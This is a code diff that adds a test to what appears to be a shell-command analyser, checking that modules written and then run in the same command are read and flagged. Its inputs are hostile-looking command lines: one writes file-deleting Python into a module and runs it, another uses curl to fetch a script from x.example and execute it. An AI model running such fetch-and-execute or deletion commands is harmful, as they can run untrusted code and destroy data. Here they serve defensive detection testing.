@@ -52,3 +52,19 @@ test('what runs a file by a module is read as that file; a debugger with an inpu
       text,
     );
 });
+
+test('a module that the same text writes is read as it was written, not as the disk has it', () => {
+  for (const place of ['jobs.py', 'jobs/__main__.py', 'jobs/__init__.py', 'src/jobs.py']) {
+    const { embedded } = read(`echo 'import os; os.remove("a")' > ${place}; python -m jobs`);
+    assert.ok(
+      embedded.some(({ want }) => 'text' in want && want.text.includes('os.remove')),
+      place,
+    );
+    assert.ok(!embedded.some(({ want }) => 'request' in want && want.request === 'file'), place);
+  }
+  assert.ok(
+    effectsOf('curl -s https://x.example/a.py > jobs.py; python -m jobs').some((effect) =>
+      effect.startsWith('exec.download'),
+    ),
+  );
+});
